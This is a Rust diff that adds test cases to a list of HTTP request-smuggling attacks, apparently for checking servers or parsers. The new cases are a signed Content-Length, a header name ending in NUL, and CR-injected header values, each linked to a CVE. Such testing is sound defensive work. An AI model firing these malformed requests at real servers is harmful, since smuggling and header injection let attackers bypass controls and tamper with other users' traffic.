@@ -21,6 +21,15 @@ pub(crate) const ATTACKS: &[Attack] = &[
         let behind = target.request("\r\n");
         request(target, &format!("Content-Length: {}\r\n", behind.len()), &behind)
     }),
+    attack("signed-length", "CVE-2021-32715: a length of +0", |target| {
+        request(target, "Content-Length: +0\r\n", "")
+    }),
+    attack("nul-in-name", "CVE-2024-52530: a header name that ends with NUL", |target| {
+        request(target, "Transfer-Encoding\0: chunked\r\n", "")
+    }),
+    attack("line-break", "CVE-2026-1527: CR in values that may come back in the answer", |target| {
+        request(target, "Sec-WebSocket-Protocol: a\rEvil: 1\r\nOrigin: http://a\rEvil: 1\r\n", "")
+    }),
     attack("pipelined", "CVE-2026-2833: another request behind the request", |target| {
         request(target, "", &target.request("\r\n"))
     }),
